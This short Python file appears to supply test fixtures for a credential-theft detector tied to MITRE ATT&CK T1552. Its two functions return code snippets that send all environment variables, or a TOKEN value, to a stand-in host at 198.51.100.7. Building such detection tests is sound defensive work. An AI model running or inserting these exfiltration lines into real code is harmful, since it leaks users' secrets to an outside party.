"""https://attack.mitre.org/techniques/T1552/"""

from __future__ import annotations


def fires() -> bytes:
    return b"import os\n\nimport requests\n\nrequests.post('http://198.51.100.7/', json=dict(os.environ))\n"


def quiet() -> bytes:
    return b"import os\n\nimport requests\n\nrequests.get('http://198.51.100.7/', headers={'X': os.environ['TOKEN']})\n"
